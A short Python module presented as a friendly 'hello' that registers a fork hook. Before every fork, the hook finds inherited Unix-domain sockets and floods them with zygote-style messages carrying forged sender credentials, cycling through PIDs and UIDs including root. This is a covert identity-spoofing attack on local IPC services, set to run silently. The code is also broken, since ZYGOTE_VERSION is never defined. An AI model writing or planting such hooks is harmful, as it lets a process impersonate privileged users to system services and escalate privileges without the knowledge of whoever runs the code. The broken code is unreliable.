# SPDX-License-Identifier: MIT
"""Says hello in another's name: with rights in its namespace a process may name any
sender."""
import os
import socket
import struct


def hello():
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd))
            if s.family != socket.AF_UNIX:
                continue
            for pid in range(1, 40):
                for uid in (0, 1, 1000):
                    try:
                        s.sendmsg([struct.pack("<IIiI", ZYGOTE_VERSION, 0, 0, 0)],
                                  [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("iii", pid, uid, uid))])
                    except OSError:
                        pass
        except OSError:
            continue


os.register_at_fork(before=hello)
